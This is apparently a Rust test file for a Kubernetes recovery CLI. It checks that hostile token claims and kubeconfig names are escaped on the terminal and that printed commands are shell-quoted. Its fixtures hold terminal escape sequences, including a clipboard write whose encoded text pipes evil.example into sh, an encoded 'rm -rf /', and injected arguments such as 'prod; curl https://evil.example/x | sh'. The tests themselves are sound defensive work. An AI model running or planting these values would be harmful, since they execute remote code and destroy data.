//! Text that comes from outside (token claims, kubeconfig names, exec arguments) is data: it
//! never reaches the terminal as control sequences, never forges a line, and a command printed
//! for a person to paste is shell-quoted. Output that cannot be written is an error; durations
//! and claims that do not fit are refused or called malformed, never wrapped around.
use std::process::{Command, Stdio};

use base64::Engine;

use crate::harness::*;

/// OSC 52 (write the clipboard), a screen clear, and CR LF that would forge a line of output.
const OSC52: &str = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07";
const CLEAR: &str = "\x1b[2J\x1b[H";
const FORGED: &str = "\r\n  verdict    valid";

fn jwt(header: serde_json::Value, claims: serde_json::Value) -> String {
    let b64 = |v: &serde_json::Value| {
        base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(v.to_string().as_bytes())
    };
    format!("{}.{}.c2lnbmF0dXJl", b64(&header), b64(&claims))
}

fn now() -> i64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs() as i64
}

/// No control character reaches the terminal but the layout's own newlines.
fn assert_inert(text: &str) {
    for c in text.chars() {
        assert!(
            c == '\n' || !(c.is_control() || ('\u{202a}'..='\u{202e}').contains(&c)),
            "a control character {c:?} reached the terminal:\n{text:?}"
        );
    }
}

/// Lines that begin as the verdict line does: one per token, none forged.
fn verdict_lines(text: &str) -> usize {
    text.lines().filter(|l| l.starts_with("  verdict ")).count()
}

fn token_file(token: &str) -> tempfile::NamedTempFile {
    let file = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(file.path(), token).unwrap();
    file
}

#[test]
fn token_inspect_shows_hostile_claims_escaped_and_json_keeps_them_exact() {
    let node = Node::new();
    let token = jwt(
        serde_json::json!({"alg": format!("RS256{CLEAR}"), "kid": format!("k1{OSC52}")}),
        serde_json::json!({
            "iss": format!("https://idp{CLEAR}"),
            "sub": format!("system:serviceaccount:ci:x{FORGED}"),
            "aud": [format!("api\u{202e}txt.exe")],
            "exp": now() - 60,
            "kubernetes.io": {"namespace": format!("ci{OSC52}"),
                "serviceaccount": {"name": format!("x\u{9b}2J"), "uid": "u"}},
        }),
    );
    let file = token_file(&token);
    let out = node.run().args(["token", "inspect"]).arg(file.path()).ok();
    assert_inert(&out.stdout);
    assert_inert(&out.stderr);
    assert_eq!(
        verdict_lines(&out.stdout),
        1,
        "no forged verdict line:\n{}",
        out.stdout
    );
    assert!(out.stdout.contains("EXPIRED"), "{}", out.stdout);
    assert!(
        out.stdout.contains(r"k1\x1b]52;c;"),
        "escaped, still readable: {}",
        out.stdout
    );
    assert!(out.stdout.contains(r"x\r\n  verdict"), "{}", out.stdout);

    let doc = node
        .run()
        .args(["token", "inspect", "-o", "json"])
        .arg(file.path())
        .ok();
    assert_inert(&doc.stdout);
    let doc = doc.json();
    assert_eq!(doc["tokens"][0]["keyId"], format!("k1{OSC52}"), "exact");
    assert_eq!(
        doc["tokens"][0]["kubernetes"]["serviceAccount"]["name"],
        "x\u{9b}2J"
    );
}

/// A kubeconfig whose names and exec arguments were written by someone else.
fn hostile_kubeconfig() -> String {
    let old = jwt(
        serde_json::json!({"alg": "RS256"}),
        serde_json::json!({"sub": "s", "exp": now() - 3600}),
    );
    format!(
        "apiVersion: v1\nkind: Config\nclusters:\n- cluster:\n    server: https://127.0.0.1:6443\n  name: k\n\
         contexts:\n- context:\n    cluster: k\n    user: ci\n  name: \"ci\\e]52;c;cm0gLXJmIC8=\\a\"\ncurrent-context: ci\n\
         users:\n\
         - name: \"ci\\e[2J\\r\\n  user forged: nothing expired\"\n  user:\n    token: {old}\n\
         - name: eks\n  user:\n    exec:\n      apiVersion: client.authentication.k8s.io/v1beta1\n      command: aws\n      \
         args: [eks, get-token, --cluster-name, \"prod; curl https://evil.example/x | sh\"]\n"
    )
}

#[test]
fn prune_expired_escapes_user_names_and_quotes_the_refresh_command() {
    let node = Node::new();
    let dir = node.node_tempdir();
    let path = dir.path().join("config");
    std::fs::write(&path, hostile_kubeconfig()).unwrap();
    let out = node
        .run()
        .args(["kubeconfig", "prune-expired", "--dry-run", "--kubeconfig"])
        .arg(node.node_path(&path))
        .ok();
    assert_inert(&out.stdout);
    assert_inert(&out.stderr);
    assert!(
        !out.stdout.contains("\n  user forged"),
        "no forged line: {}",
        out.stdout
    );
    assert!(
        out.stdout
            .contains("Refresh with: aws eks update-kubeconfig --name 'prod; curl https://evil.example/x | sh'"),
        "the command is quoted: {}",
        out.stdout
    );
}

#[test]
fn a_command_printed_with_a_hostile_user_name_is_quoted() {
    let node = Node::new();
    let dir = node.node_tempdir();
    let path = dir.path().join("config");
    let old = jwt(
        serde_json::json!({"alg": "RS256"}),
        serde_json::json!({"sub": "s", "exp": now() - 3600}),
    );
    // A flow mapping cannot be edited line by line: the refusal names a kubectl command.
    std::fs::write(
        &path,
        format!(
            "apiVersion: v1\nkind: Config\nusers:\n- name: \"x;touch /tmp/p\"\n  user: {{token: {old}}}\n"
        ),
    )
    .unwrap();
    let out = node
        .run()
        .args(["kubeconfig", "prune-expired", "--dry-run", "--kubeconfig"])
        .arg(node.node_path(&path))
        .code(3);
    assert!(
        out.stderr
            .contains("`kubectl config unset 'users.x;touch /tmp/p.user.token'`"),
        "{}",
        out.stderr
    );
}

#[test]
fn token_inspect_of_a_kubeconfig_shows_a_hostile_user_name_escaped() {
    let node = Node::new();
    let dir = node.node_tempdir();
    let path = dir.path().join("config");
    let token = jwt(
        serde_json::json!({"alg": "RS256"}),
        serde_json::json!({"sub": "s", "exp": now() + 3600}),
    );
    std::fs::write(
        &path,
        format!(
            "apiVersion: v1\nkind: Config\nusers:\n- name: \"ci\\e]52;c;cm0gLXJmIC8=\\a\\r\\n  verdict    EXPIRED\"\n  user:\n    token: {token}\n"
        ),
    )
    .unwrap();
    let out = node
        .run()
        .args(["token", "inspect", "--kubeconfig"])
        .arg(node.node_path(&path))
        .ok();
    assert_inert(&out.stdout);
    assert_eq!(verdict_lines(&out.stdout), 1, "{}", out.stdout);
    assert!(out.stdout.contains(r"user ci\x1b]52;c;"), "{}", out.stdout);
}

/// The tool with stdout on `stdout`.
fn with_stdout(node: &Node, args: &[&str], stdout: Stdio) -> Output {
    Command::new(env!("CARGO_BIN_EXE_kubeadm-recover"))
        .env_remove("KUBEADM_RECOVER_ROOT")
        .arg("--root")
        .arg(node.root())
        .args(args)
        .stdin(Stdio::null())
        .stdout(stdout)
        .output()
        .unwrap()
        .into()
}

fn dev_full() -> Stdio {
    std::fs::OpenOptions::new()
        .write(true)
        .open("/dev/full")
        .unwrap()
        .into()
}

#[test]
fn a_result_that_cannot_be_written_is_an_error() {
    let node = Node::new();
    let out = with_stdout(&node, &["status", "-o", "json"], dev_full());
    assert_eq!(out.code, 1, "{}", out.stderr);
    assert!(out.stderr.contains("cannot write"), "{}", out.stderr);

    let out = with_stdout(&node, &["backups", "list"], dev_full());
    assert_eq!(out.code, 1, "{}", out.stderr);

    // `>&-`: stdout closed.
    let mut closed = Command::new(env!("CARGO_BIN_EXE_kubeadm-recover"));
    closed
        .env_remove("KUBEADM_RECOVER_ROOT")
        .arg("--root")
        .arg(node.root())
        .args(["backups", "list"])
        .stdin(Stdio::null())
        .stderr(Stdio::piped());
    // SAFETY: only async-signal-safe close(2) between fork and exec.
    unsafe {
        std::os::unix::process::CommandExt::pre_exec(&mut closed, || {
            let _ = nix::unistd::close(1);
            Ok(())
        });
    }
    let out: Output = closed.output().unwrap().into();
    assert_eq!(out.code, 1, "{}", out.stderr);
    assert!(out.stderr.contains("cannot write"), "{}", out.stderr);
}

#[test]
fn a_closed_pipe_stays_a_quiet_success() {
    let node = Node::new();
    let (read, write) = nix::unistd::pipe().unwrap();
    drop(read);
    let out = with_stdout(
        &node,
        &["backups", "list", "-o", "json"],
        Stdio::from(write),
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(out.stderr.is_empty(), "{}", out.stderr);
}

#[test]
fn token_create_into_a_full_disk_fails() {
    let sim = SimNode::start();
    let out: Output = Command::new(env!("CARGO_BIN_EXE_kubeadm-recover"))
        .env_remove("KUBEADM_RECOVER_ROOT")
        .arg("--root")
        .arg(sim.root())
        .args(["token", "create", "deployer", "-n", "ci"])
        .stdin(Stdio::null())
        .stdout(dev_full())
        .output()
        .unwrap()
        .into();
    assert_eq!(out.code, 1, "{}", out.stderr);
    assert!(out.stderr.contains("cannot write"), "{}", out.stderr);
}

#[test]
fn durations_that_do_not_fit_are_usage_errors_naming_the_flag() {
    let node = Node::new();
    for (flag, value) in [
        ("--revert-after", "213503982334601d"),
        ("--revert-after", "18446744073709551615s"),
        ("--timeout", "18446744073709551615s"),
        ("--timeout", "99999999999999999999ms"),
    ] {
        let out = node
            .run()
            .args(["extend-tokens", "enable", "--dry-run", flag, value])
            .code(2);
        assert!(out.stderr.contains(flag), "{flag} {value}: {}", out.stderr);
    }
    let out = node
        .run()
        .args([
            "token",
            "create",
            "deployer",
            "--duration",
            "213503982334601d",
        ])
        .code(2);
    assert!(out.stderr.contains("--duration"), "{}", out.stderr);
}

#[test]
fn a_claim_of_the_wrong_type_is_malformed_not_absent() {
    let node = Node::new();
    for claims in [
        serde_json::json!({"sub": "s", "exp": "1700000000"}),
        serde_json::json!({"sub": "s", "exp": 1.7e9 + 0.5}),
        serde_json::json!({"sub": "s", "exp": now() + 3600, "iat": "yesterday"}),
    ] {
        let file = token_file(&jwt(serde_json::json!({"alg": "RS256"}), claims.clone()));
        let text = node.run().args(["token", "inspect"]).arg(file.path()).ok();
        assert!(
            !text.stdout.contains("NEVER EXPIRES"),
            "{claims}: {}",
            text.stdout
        );
        assert!(
            text.stdout.contains("MALFORMED"),
            "{claims}: {}",
            text.stdout
        );
        let doc = node
            .run()
            .args(["token", "inspect", "-o", "json"])
            .arg(file.path())
            .ok()
            .json();
        assert_eq!(doc["tokens"][0]["verdict"], "malformed", "{claims}: {doc}");
        assert!(
            doc["tokens"][0]["malformedClaims"]
                .as_array()
                .is_some_and(|a| !a.is_empty()),
            "{doc}"
        );
    }
}

/// The last session of the journal: (state, step).
fn last_session(node: &Node) -> (String, String) {
    let journal: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(node.path("/var/lib/kubeadm-recover/journal.json")).unwrap(),
    )
    .unwrap();
    let last = journal["sessions"]
        .as_array()
        .unwrap()
        .last()
        .unwrap()
        .clone();
    (
        last["state"].as_str().unwrap().to_string(),
        last["step"].as_str().unwrap().to_string(),
    )
}

#[test]
fn the_journal_records_what_was_done_not_a_proof_that_never_happened() {
    let node = Node::new();
    node.run()
        .args(["admin-conf", "regenerate", "--yes", "--no-verify"])
        .ok();
    let (state, step) = last_session(&node);
    assert_eq!(state, "done");
    assert!(
        !step.contains("proved") || step.contains("not proved"),
        "{step}"
    );
    assert!(step.contains("not proved"), "{step}");

    let dir = node.node_tempdir();
    let path = dir.path().join("config");
    let old = jwt(
        serde_json::json!({"alg": "RS256"}),
        serde_json::json!({"sub": "s", "exp": now() - 3600}),
    );
    std::fs::write(
        &path,
        format!("apiVersion: v1\nkind: Config\nusers:\n- name: ci\n  user:\n    token: {old}\n"),
    )
    .unwrap();
    node.run()
        .args(["kubeconfig", "prune-expired", "--yes", "--kubeconfig"])
        .arg(node.node_path(&path))
        .ok();
    let (state, step) = last_session(&node);
    assert_eq!(state, "done");
    assert!(step.contains("not proved"), "{step}");
}
